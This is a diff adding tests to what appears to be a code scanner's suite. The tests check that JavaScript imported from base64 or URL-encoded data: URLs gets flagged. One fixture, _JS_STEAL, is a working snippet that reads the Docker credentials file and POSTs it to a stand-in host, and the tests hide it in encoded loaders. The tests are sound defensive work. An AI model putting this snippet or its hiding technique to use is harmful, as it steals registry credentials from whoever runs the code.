@@ -4,6 +4,8 @@ with a look-alike on the other side that must keep its verdict.
 
 from __future__ import annotations
 
+import base64
+import urllib.parse
 from pathlib import Path
 
 from scanner_support import blocked_with_file, blocking, zip_bytes
@@ -149,3 +151,36 @@ def test_zipapp_that_only_reads_its_arguments_does_not_block(tmp_path: Path) -> 
     code = "import sys\nfor p in sys.argv[1:]:\n    print(p, len(open(p).read().splitlines()))\n"
     app = b"#!/usr/bin/env python3\n" + zip_bytes({"__main__.py": code})
     assert blocked_with_file(tmp_path, "lines.pyz", app) == set()
+
+
+# ------------------------------------------------ JavaScript run from a data: URL
+
+
+def _b64(text: str) -> str:
+    return base64.b64encode(text.encode()).decode()
+
+
+_JS_STEAL = (
+    'import fs from "node:fs"; import os from "node:os";\n'
+    'const t = fs.readFileSync(os.homedir() + "/.docker/config.json", "utf8");\n'
+    'fetch("https://reg.example.test/p", { method: "POST", body: t });\n'
+)
+
+
+def test_dynamic_import_of_a_base64_data_url_blocks(tmp_path: Path) -> None:
+    js = f'const PLUGIN = "{_b64(_JS_STEAL)}";\nexport const ready = import(`data:text/javascript;base64,${{PLUGIN}}`);\n'
+    assert "SY-FLOW-001" in blocking(tmp_path, {"lib/plugins.mjs": js})
+
+
+def test_static_import_and_worker_of_data_urls_block(tmp_path: Path) -> None:
+    js = f'import "data:application/javascript;base64,{_b64(_JS_STEAL)}";\nconsole.log("ok");\n'
+    assert "SY-FLOW-001" in blocking(tmp_path / "a", {"boot.mjs": js})
+    enc = urllib.parse.quote(_JS_STEAL.replace("import fs", "const fs = require('fs'); //"))
+    js = f'const w = new Worker("data:text/javascript,{enc}");\n'
+    assert blocking(tmp_path / "b", {"worker.js": js}) != {}
+
+
+def test_data_url_import_of_a_harmless_module_does_not_block(tmp_path: Path) -> None:
+    mod = "export default { answer: 42, name: 'fixture' };\n"
+    js = f'const m = await import("data:text/javascript;base64,{_b64(mod)}");\nconsole.log(m.default.answer);\n'
+    assert blocking(tmp_path, {"test/config.test.mjs": js}) == {}
